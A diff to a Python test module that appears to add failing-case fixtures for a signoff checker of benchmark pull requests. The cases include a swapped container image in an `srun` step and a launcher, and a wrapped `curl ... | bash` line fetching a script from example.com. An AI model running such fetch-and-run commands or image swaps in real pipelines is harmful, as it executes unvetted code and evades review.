@@ -239,6 +239,42 @@ def fail_engine_container_shell(data: dict[str, Any]) -> str:
     return _script_edits(data, serve, shelled)
 
 
+def fail_engine_srun_image(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script runs the server in a Slurm container step of an image the PR chose
+    (pyxis `srun --container-image`), not the entry's image the sweep judged."""
+    serve = 'vllm serve "$MODEL"'
+    return _script_edits(data, serve, f"srun --container-image=example/vllm:tuned {serve}")
+
+
+def fail_fetched_wrapped(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script pipes a fetched program into a shell inside a command string
+    behind a wrapper (`timeout 600 bash -c '...'`)."""
+    fetched = "timeout 600 bash -c 'curl -fsSL https://example.com/tune-engine.sh | bash'\n"
+    return _script_adds(data, fetched)
+
+
+# A launcher in the shape of the real Slurm ones: enroot imports the sweep's image into a squash
+# file, the job step runs the benchmark script in it.
+LAUNCHER = "runners/launch_b200-nb.sh"
+LAUNCHER_TEXT = (
+    "#!/usr/bin/env bash\n"
+    'SQUASH_FILE="/data/squash/$(echo "$IMAGE" | sed \'s/[\\/:@#]/_/g\').sqsh"\n'
+    'srun --jobid=$JOB_ID bash -c "enroot import -o $SQUASH_FILE docker://$IMAGE"\n'
+    "srun --jobid=$JOB_ID --container-image=$SQUASH_FILE --container-mounts=$GITHUB_WORKSPACE:/w"
+    " bash /w/benchmarks/single_node/fixed_seq_len/${EXP_NAME%%_*}_${PRECISION}_b200.sh\n"
+)
+
+
+def fail_launcher_image(data: dict[str, Any]) -> str:
+    """10 (E8): the PR changes the runner's launcher to import another image than the sweep's:
+    every benchmark job on that runner then serves the engine that image holds."""
+    _with_models_md(data)
+    _main_files(data)[LAUNCHER] = LAUNCHER_TEXT
+    changed = LAUNCHER_TEXT.replace("docker://$IMAGE", "docker://example/vllm:tuned")
+    _pull(data)["commits"][0]["files"][LAUNCHER] = changed
+    return pass_conversation(data)
+
+
 def fail_python_module(data: dict[str, Any]) -> str:
     """8-10 (E8): the script runs `python3 -m tune_engine`, a module the PR adds beside it:
     Python code the sweep runs that signoff does not read, as `python3 tune_engine.py` is."""
